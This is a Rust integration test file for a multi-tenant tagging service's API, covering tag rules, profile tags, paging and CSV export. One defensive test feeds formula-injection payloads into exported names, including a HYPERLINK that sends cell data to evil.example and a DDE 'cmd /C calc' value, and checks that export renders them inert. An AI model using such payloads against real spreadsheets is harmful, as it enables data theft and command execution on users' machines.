    assert_eq!(v["valid"], false);
    assert_eq!(errors(&v).len(), 3);

    // Known tags (active or retired) are fine; a saved rule cannot be changed to name a ghost.
    let fine =
        json!({"version": 1, "root": {"type": "tag", "op": "has_any", "tags": [tag, retired]}});
    let v = ok!(
        &app,
        Method::POST,
        "/v1/conditions/validate",
        T,
        Some(json!({"condition": fine})),
        200,
    );
    assert_eq!(v, json!({"valid": true, "errors": []}));
    let created = ok!(
        &app,
        Method::POST,
        "/v1/tag-rules",
        T,
        rule(not_has(&retired)),
        201
    );
    let rid = created["rule"]["id"].as_str().unwrap();
    let e = ok!(
        &app,
        Method::PUT,
        &format!("/v1/tag-rules/{rid}"),
        T,
        Some(json!({"name": "r", "condition": not_has("ghost-3")})),
        400,
    );
    assert_eq!(e["code"], "unknown_tag", "{e}");
    assert_eq!(
        errors(&e),
        [pair("root.children[1].child.tags[0]", "unknown_tag")]
    );
    let r = ok!(
        &app,
        Method::GET,
        &format!("/v1/tag-rules/{rid}"),
        T,
        None,
        200
    );
    assert_eq!(r["version"], 1);
    db.cleanup().await;
}

async fn manual_tags_need_a_profile_and_a_tag_of_the_tenant(backend: Backend) {
    let (db, tagger) = setup(backend).await;
    let app = api!(db, tagger);
    population(&tagger, T, 2).await;
    let (_, tag) = group_and_tag!(&app, T, "intent", "engaged");
    let (_, foreign) = group_and_tag!(&app, OTHER, "theirs", "theirs");
    // A profile tagging never heard of (for this tenant): 404, and it is not made up.
    let e = ok!(
        &app,
        Method::POST,
        "/v1/profiles/p-ghost/tags",
        T,
        Some(json!({"tag_id": tag})),
        404,
    );
    assert_eq!(e["code"], "not_found");
    assert!(e["message"].as_str().unwrap().contains("p-ghost"), "{e}");
    ok!(&app, Method::GET, "/v1/profiles/p-ghost/tags", T, None, 404);
    ok!(
        &app,
        Method::DELETE,
        &format!("/v1/profiles/p-ghost/tags/{tag}"),
        T,
        None,
        404,
    );
    let everyone = json!({"version": 1, "root": {"type": "not", "child":
        {"type": "tag", "op": "has", "tags": [tag]}}});
    let p = ok!(
        &app,
        Method::POST,
        "/v1/segments/preview",
        T,
        Some(json!({"condition": everyone})),
        200,
    );
    assert_eq!(p["count"], 2, "only the two known profiles: {p}");
    // A tag the tenant does not have (unknown, or another tenant's): 404 naming the field.
    for t in ["no-such-tag", foreign.as_str()] {
        for (method, uri, body) in [
            (
                Method::POST,
                "/v1/profiles/p00/tags".to_string(),
                Some(json!({"tag_id": t})),
            ),
            (Method::DELETE, format!("/v1/profiles/p00/tags/{t}"), None),
        ] {
            let e = ok!(&app, method, &uri, T, body, 404);
            assert_eq!(
                (e["code"].as_str(), e["details"]["field"].as_str()),
                (Some("not_found"), Some("tag_id")),
                "{e}"
            );
            assert!(e["message"].as_str().unwrap().contains(t), "{e}");
        }
    }
    // A missing `tag_id`: 400 naming it.
    let e = ok!(
        &app,
        Method::POST,
        "/v1/profiles/p00/tags",
        T,
        Some(json!({})),
        400,
    );
    assert!(e["message"].as_str().unwrap().contains("tag_id"), "{e}");
    // A known profile and tag: fine.
    let c = ok!(
        &app,
        Method::POST,
        "/v1/profiles/p00/tags",
        T,
        Some(json!({"tag_id": tag})),
        200,
    );
    assert_eq!(c["changes"][0]["change"], "added");
    db.cleanup().await;
}

async fn exported_cells_never_run_as_formulas(backend: Backend) {
    let (db, tagger) = setup(backend).await;
    let app = api!(db, tagger);
    let hostile = [
        ("x1", r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#),
        ("x2", "+86 138 0000 0000"),
        ("x3", "-2+3"),
        ("x4", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("x5", "\t=1+1"),
        ("x6", "\r=1+1"),
        ("x7", "Plain = text, fine"),
    ];
    for (id, name) in hostile {
        profile(
            &tagger,
            T,
            id,
            json!({"contact.name": name, "contact.score": -3, "contact.city": "Hangzhou"}),
            vec![],
        )
        .await;
    }
    let all = json!({"version": 1, "root": {"type": "property", "key": "contact.city",
        "value_type": "string", "op": "eq", "value": "Hangzhou"}});
    let text = export!(&app, T, all, &["contact.name", "contact.score"]);
    // Read back as CSV: every formula-like name carries a leading `'`, the rest is as typed,
    // and a negative number stays a number.
    let mut rows = csv_rows(&text);
    let header = rows.remove(0);
    assert_eq!(header, ["profile_id", "contact.name", "contact.score"]);
    assert_eq!(rows.len(), hostile.len(), "{text}");
    for (row, (id, name)) in rows.iter().zip(hostile) {
        assert_eq!(row[0], id);
        let want = if id == "x7" {
            name.to_string()
        } else {
            format!("'{name}")
        };
        assert_eq!(row[1], want, "{id}");
        assert_eq!(row[2].parse::<f64>().ok(), Some(-3.0), "{id}: {row:?}");
    }
    // The HYPERLINK line as written: quoted, inert.
    assert!(
        text.contains(r#"x1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#),
        "{text}"
    );
    db.cleanup().await;
}

/// A minimal RFC 4180 reader (quoted fields with doubled quotes, CR/LF inside quotes).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

/// Every list of the API pages by cursor: walked two at a time, each gives the items of one
/// large page, once and in order (groups by name, rules and a profile's tags as created, the
/// mirror by WeCom's order, failures latest first); limits out of range and cursors a list did
/// not give — another list's among them — are 400 naming the parameter.
async fn every_list_pages_by_cursor(backend: Backend) {
    let (db, tagger) = setup(backend).await;
    let app = api!(db, tagger);
    let get = |uri: String| {
        let app = &app;
        async move { call!(app, req(Method::GET, &uri, T, None)) }
    };
    // Five groups of one tag each, created out of name order; five rules; a profile holding
    // every tag by hand.
    profile(&tagger, T, "pl", json!({}), vec![]).await;
    let mut tags = Vec::new();
    for name in ["g-c", "g-a", "g-e", "g-b", "g-d"] {
        let (_, tag) = group_and_tag!(&app, T, name, format!("{name}-tag"));
        let created = ok!(
            &app,
            Method::POST,
            "/v1/tag-rules",
            T,
            Some(json!({"tag_id": tag, "name": name, "condition": condition(), "enabled": false})),
            201,
        );
        wait_job!(&app, T, created["job"]["id"].as_str().unwrap());
        ok!(
            &app,
            Method::POST,
            "/v1/profiles/pl/tags",
            T,
            Some(json!({"tag_id": tag})),
            200,
        );
        tags.push(tag);
    }
    // A mirrored library of five groups, two pairs of them at one order.
    let library: Vec<wechat::api::CorpTagGroup> = serde_json::from_value(json!([
        {"group_id": "etG3", "group_name": "c", "order": 1, "tag": [{"id": "etT3", "name": "c"}]},
        {"group_id": "etG1", "group_name": "a", "order": 5, "tag": [{"id": "etT1", "name": "a"}]},
        {"group_id": "etG5", "group_name": "e", "order": 1, "tag": [{"id": "etT5", "name": "e"}]},
        {"group_id": "etG2", "group_name": "b", "order": 5, "tag": [{"id": "etT2", "name": "b"}]},
        {"group_id": "etG4", "group_name": "d", "order": 0, "tag": [{"id": "etT4", "name": "d"}]}
    ]))
    .unwrap();
    tagging_svc::store::corp_tags::apply(&db.conn, T, CORP, &library, now())
        .await
        .unwrap();
    // Five failed write-backs, pairs of them failed in the same second.
    for i in 0..5i64 {
        tagging_svc::store::entities::sync_item::ActiveModel {
            tenant_id: Set(T.into()),
            corp_id: Set(CORP.into()),
            user_id: Set("rep1".into()),
            external_userid: Set(format!("wmF{i}")),
            wecom_tag_id: Set(format!("etF{i}")),
            action: Set("add".into()),
            status: Set("failed".into()),
            attempts: Set(3),
            next_at: Set(now()),
            last_error: Set(Some("84061".into())),
            created_at: Set(now()),
            updated_at: Set(now() - chrono::Duration::seconds(i / 2)),
            ..Default::default()
        }
        .insert(&db.conn)
        .await
        .unwrap();
    }

    let groups = pages::check(&get, "/v1/tag-groups", 2, |v| v["id"].clone()).await;
    let names: Vec<&str> = groups
        .items
        .iter()
        .map(|g| g["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["g-a", "g-b", "g-c", "g-d", "g-e"]);
    assert!(groups
        .items
        .iter()
        .all(|g| g["tags"].as_array().unwrap().len() == 1));

    let rules = pages::check(&get, "/v1/tag-rules", 2, |v| v["id"].clone()).await;
    let names: Vec<&str> = rules
        .items
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["g-c", "g-a", "g-e", "g-b", "g-d"], "as created");

    let listed = pages::check(&get, "/v1/tags", 2, |v| v["id"].clone()).await;
    let listed: Vec<&str> = listed
        .items
        .iter()
        .map(|t| t["id"].as_str().unwrap())
        .collect();
    assert_eq!(listed, tags, "as created");
    let group = groups.items[0]["id"].as_str().unwrap();
    let (_, one) = get(format!("/v1/tags?group_id={group}")).await;
    assert_eq!(one["items"], groups.items[0]["tags"], "{one}");

    let held = pages::check(&get, "/v1/profiles/pl/tags", 2, |v| v["tag_id"].clone()).await;
    let held: Vec<&str> = held
        .items
        .iter()
        .map(|h| h["tag_id"].as_str().unwrap())
        .collect();
    assert_eq!(held, tags, "as given");

    let mirror = pages::check(&get, &format!("/v1/wecom/{CORP}/corp-tags"), 2, |v| {
        v["wecom_id"].clone()
    })
    .await;
    let order: Vec<&str> = mirror
        .items
        .iter()
        .map(|g| g["wecom_id"].as_str().unwrap())
        .collect();
    assert_eq!(order, ["etG1", "etG2", "etG3", "etG5", "etG4"]);
    assert_eq!(mirror.items[0]["tags"][0]["wecom_id"], "etT1");
    // Beside the page: the corp and its sync state (none asked for here).
    let (_, page) = get(format!("/v1/wecom/{CORP}/corp-tags?limit=1")).await;
    assert_eq!(
        (page["corp_id"].as_str(), page.get("sync")),
        (Some(CORP), Some(&Value::Null)),
        "{page}"
    );

    let failed = pages::check(&get, "/v1/wecom/sync-queue", 2, |v| v["id"].clone()).await;
    let order: Vec<&str> = failed
        .items
        .iter()
        .map(|f| f["external_userid"].as_str().unwrap())
        .collect();
    assert_eq!(
        order,
        ["wmF1", "wmF0", "wmF3", "wmF2", "wmF4"],
        "latest first, then newest"
    );
    let (_, page) = get("/v1/wecom/sync-queue?limit=1".into()).await;
    assert_eq!(page["counts"]["failed"], 5, "{page}");
    // `recent`, the old name of `limit`, still sizes the page, and is named when out of range.
    let (_, page) = get("/v1/wecom/sync-queue?recent=3".into()).await;
    assert_eq!(page["items"].as_array().unwrap().len(), 3, "{page}");
    pages::refused(
        &get,
        "/v1/wecom/sync-queue?recent=0",
        "invalid_limit",
        "recent",
    )
    .await;

    // A cursor of one list is not a cursor of another.
    let foreign = rules.first_cursor.unwrap();
    pages::refused(
        &get,
        &format!("/v1/tag-groups?cursor={foreign}"),
        "invalid_cursor",
        "cursor",
    )
    .await;
    db.cleanup().await;
}

test_support::on_both_backends!(
    rules_preview_backfill_export,
    requests_without_a_valid_credential_are_refused,
    tenants_see_and_touch_only_their_own,
    conditions_naming_unknown_tags_are_refused_at_their_node,
    manual_tags_need_a_profile_and_a_tag_of_the_tenant,
    exported_cells_never_run_as_formulas,
    every_list_pages_by_cursor,
);
